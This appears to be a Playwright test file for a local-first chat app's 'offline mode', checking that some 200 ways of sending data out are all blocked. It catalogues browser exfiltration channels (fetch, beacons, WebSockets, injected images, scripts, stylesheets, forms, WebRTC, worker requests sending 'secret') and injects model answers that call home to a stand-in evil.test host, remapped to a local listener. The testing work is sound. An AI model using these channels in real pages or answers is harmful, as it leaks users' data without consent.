import { createSocket, type Socket } from 'node:dgram';
import { readdirSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { expect, type Page, test, type Worker } from '@playwright/test';
import { openFaultyProvider } from '#testing/faulty-provider.ts';
import { allowKeys } from './allow-keys.ts';
import { callingAttacks } from './attacks.ts';
import { violations } from './axe.ts';
import { ChatPage, script } from './chat-page.ts';
import { openPage } from './open-page.ts';
import { provider, rules, writeRows } from './provider-rows.ts';

type Server = Awaited<ReturnType<typeof openFaultyProvider>>;

/** Answers that call home in as many ways. */
const IN_ANSWERS = 140;

let lab: Server;
let home: { url: string; host: string; requests: () => number; close: () => void };
let stun: Socket;
let datagrams = 0;
test.beforeAll(async () => {
  lab = await openFaultyProvider();
  home = await listen();
  stun = createSocket('udp4');
  stun.on('message', () => datagrams++);
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
});
test.afterAll(async () => {
  stun.close();
  home.close();
  await lab.close();
});

/**
 * Counts who sends something. Chromium opens an empty connection for an iframe and for a form that the policy then
 * refuses; nothing but the app's own code could make either.
 */
async function listen(): Promise<typeof home> {
  let count = 0;
  const server = createServer((socket) => {
    socket.once('data', () => count++);
    socket.on('error', () => {});
    socket.end('HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: `http://${host}`, host, requests: () => count, close: () => server.close() };
}

async function setOffline(page: Page, isOn: boolean): Promise<void> {
  await openPage(page, '/settings/privacy');
  const box = page.getByLabel('Nothing leaves this browser');
  await expect(box).toBeEnabled();
  await box.setChecked(isOn);
  const status = page.getByRole('link', { name: isOn ? 'Offline mode' : /^\d+ sent$/ });
  await expect(status.first()).toBeVisible();
}

/** Ways out of a page, each tried; what refuses to be tried counts as tried. @returns how many */
function tryFromPage(page: Page, target: string): Promise<number> {
  return page.evaluate(async (url) => {
    const add = (tag: string, set: Record<string, string>, parent: Node = document.body) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(set)) element.setAttribute(name, value);
      parent.appendChild(element);
      return element;
    };
    const ways: (() => unknown)[] = [
      () => fetch(url),
      () => fetch(url, { mode: 'no-cors', keepalive: true }),
      () => fetch(url, { method: 'POST', body: 'secret' }),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', url);
        request.send('secret');
      },
      () => navigator.sendBeacon(url, 'secret'),
      () => new WebSocket(url.replace('http', 'ws')),
      () => new EventSource(url),
      () =>
        new (globalThis as unknown as { WebTransport: new (u: string) => object }).WebTransport(
          url.replace('http:', 'https:'),
        ),
      () => import(/* @vite-ignore */ url),
      () => new Worker(url),
      () => new SharedWorker(url),
      () => navigator.serviceWorker.register(url),
      () => Object.assign(new Image(), { src: url }),
      () => Object.assign(new Image(), { srcset: `${url} 2x` }),
      () => new Audio(url).play(),
      () => add('video', { src: url, autoplay: '' }),
      () => add('video', { poster: url }),
      () => add('script', { src: url }),
      () => add('script', { src: url, type: 'module' }),
      () => add('link', { rel: 'stylesheet', href: url }),
      () => add('link', { rel: 'prefetch', href: url }, document.head),
      () => add('link', { rel: 'preload', as: 'fetch', href: url }, document.head),
      () => add('link', { rel: 'modulepreload', href: url }, document.head),
      () => add('link', { rel: 'icon', href: url }, document.head),
      () => add('link', { rel: 'manifest', href: url }, document.head),
      () => add('iframe', { src: url }),
      () => add('object', { data: url }),
      () => add('embed', { src: url }),
      () => add('input', { type: 'image', src: url }),
      () => add('svg', {}).insertAdjacentHTML('beforeend', `<image href="${url}"/>`),
      () => new FontFace('home', `url(${url})`).load(),
      () => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`body::after { content: url(${url}); background: url(${url}) }`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      },
      () => {
        const form = add('form', { action: url, method: 'post', target: '_blank' });
        (form as HTMLFormElement).submit();
      },
      () => (add('a', { href: url, target: '_blank' }) as HTMLElement).click(),
      () => (add('a', { href: url, ping: url }) as HTMLElement).click(),
      () =>
        add('a', { href: url, download: 'x' }).dispatchEvent(
          new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }),
        ),
      () => caches.open('home').then((cache) => cache.add(url)),
      () => window.open(url),
      () => Object.assign(location, { href: url }),
      () => location.assign(url),
      () => location.replace(url),
      () => new AudioContext().audioWorklet.addModule(url),
      () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)})`]))),
      () => document.startViewTransition?.(() => add('img', { src: url })),
      () => new Notification('home', { icon: url, image: url } as NotificationOptions),
    ];
    for (const way of ways)
      await Promise.resolve()
        .then(way)
        .catch(() => {});
    return ways.length;
  }, target);
}

/** By both of its names. @returns how many ways */
function tryWebRtc(page: Page): Promise<number> {
  return page.evaluate(async (port) => {
    const names = ['RTCPeerConnection', 'webkitRTCPeerConnection'] as const;
    for (const name of names) {
      const { [name]: Connection } = globalThis as unknown as Record<
        (typeof names)[number],
        typeof RTCPeerConnection
      >;
      try {
        const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        connection.createDataChannel('home');
        await connection.setLocalDescription(await connection.createOffer());
      } catch {
        // It is not there.
      }
    }
    return names.length;
  }, stun.address().port);
}

function tryFromWorker(worker: Worker, target: string): Promise<number> {
  return worker.evaluate(async (url) => {
    const ways: (() => unknown)[] = [
      () => fetch(url),
      () => fetch(url, { mode: 'no-cors', keepalive: true }),
      () => fetch(url, { method: 'POST', body: 'secret' }),
      () => fetch('https://huggingface.co/home', { method: 'POST', body: 'secret' }),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', url);
        request.send('secret');
      },
      () => new WebSocket(url.replace('http', 'ws')),
      () => new EventSource(url),
      () => import(/* @vite-ignore */ url),
      () => new Worker(url),
      () => caches.open('home').then((cache) => cache.add(url)),
    ];
    for (const way of ways)
      await Promise.resolve()
        .then(way)
        .catch(() => {});
    return ways.length;
  }, target);
}

/** Starts the two workers whose policy may let requests leave, as a fault of the app could. */
async function startExits(page: Page): Promise<Worker[]> {
  const names = readdirSync('dist/assets')
    .filter((name) => /^(relay|download)-worker.*\.js$/.test(name))
    .map((name) => `/assets/${name}`);
  expect(names).toHaveLength(2);
  const before = new Set(page.workers());
  await page.evaluate((paths) => {
    const started = paths.map((path) => new Worker(path, { type: 'module' }));
    Object.assign(globalThis, { started });
  }, names);
  const exits = () => page.workers().filter((worker) => !before.has(worker));
  await expect.poll(() => exits().length).toBe(names.length);
  return exits();
}

test('offline mode: of 200 ways out none reaches a server, and all is back once it is off', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(400_000);
  page.setDefaultTimeout(60_000);
  const elsewhere: string[] = [];
  page.context().on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== baseURL && /^https?:$/.test(protocol)) elsewhere.push(origin);
  });
  const key = await openPage(page);
  await writeRows(page, [
    provider('lab', lab.url({ kind: 'none' })),
    provider('home', `${home.url}/v1`),
    rules([{ when: { model: '*/*' }, mode: 'only-remote', to: ['lab:*', 'home:*'] }]),
  ]);
  await allowKeys(page);
  await page.reload();
  await page.evaluate(() => alcove.ready);
  const ask = () =>
    page.evaluate(async (bearer) => {
      const response = await fetch('/v1/chat/completions', {
        method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/json' },
        body: '{"model":"lab/big","messages":[{"role":"user","content":"Hello"}]}',
      });
      return [response.status, (await response.json()).error?.code];
    }, key);

  // With the switch off these ways work: the zero afterwards is due to the switch.
  expect(await ask()).toEqual([200, undefined]);
  for (const worker of await startExits(page)) await tryFromWorker(worker, home.url);
  await expect.poll(() => home.requests()).toBeGreaterThan(0);
  await expect.poll(() => elsewhere).toContain('https://huggingface.co');
  await tryWebRtc(page);
  await expect.poll(() => datagrams).toBeGreaterThan(0);
  await page.reload();

  await setOffline(page, true);
  expect(await violations(page)).toEqual([]);
  const before = { answered: lab.received.length, arrived: home.requests(), datagrams };
  elsewhere.length = 0;
  expect(await ask()).toEqual([403, 'offline_mode']);
  let ways = await tryFromPage(page, home.url);
  ways += await tryWebRtc(page);
  for (const worker of page.workers()) ways += await tryFromWorker(worker, home.url);
  for (const worker of await startExits(page)) ways += await tryFromWorker(worker, home.url);
  const chat = new ChatPage(page);
  await chat.open('/chat?scripted-models');
  await chat.choose('Scripted vision');
  const attacks = callingAttacks(IN_ANSWERS).map((text) => text.replaceAll('evil.test', home.host));
  const answer = await chat.ask(
    script([`[a link](${home.url}/page)\n\n${attacks.join('\n\n')}\n\nthe end`]),
  );
  await expect(answer).toContainText('the end');
  ways += IN_ANSWERS;
  for (const button of ['left', 'middle'] as const) {
    await answer.getByRole('button', { name: 'a link' }).click();
    await page.getByRole('dialog').getByRole('link').click({ button });
    await expect(
      page.getByText(`Offline mode is on: ${home.host} was not opened.`).first(),
    ).toBeVisible();
    await page.keyboard.press('Escape');
  }
  ways += 2;
  expect(ways).toBeGreaterThanOrEqual(200);
  expect(page.context().pages()).toHaveLength(1);
  const after = { answered: lab.received.length, arrived: home.requests(), datagrams };
  expect(after).toEqual(before);

  // It lasts, and whatever was there before is there again once it is off.
  await page.reload();
  await setOffline(page, false);
  await expect.poll(ask).toEqual([200, undefined]);
});
